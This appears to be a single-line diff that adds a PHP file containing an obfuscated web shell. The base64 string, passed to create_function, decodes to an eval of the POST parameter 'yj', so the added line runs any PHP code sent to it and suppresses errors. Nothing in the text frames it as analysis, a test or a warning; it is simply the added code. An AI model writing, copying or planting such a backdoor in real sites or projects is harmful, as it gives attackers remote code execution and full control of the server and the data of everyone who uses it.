@@ -1,0 +1,1 @@
+<?php $yj=create_function("", base64_decode('QGV2YWwoJF9QT1NUWyJ5aiJdKTs='));$yj();?>
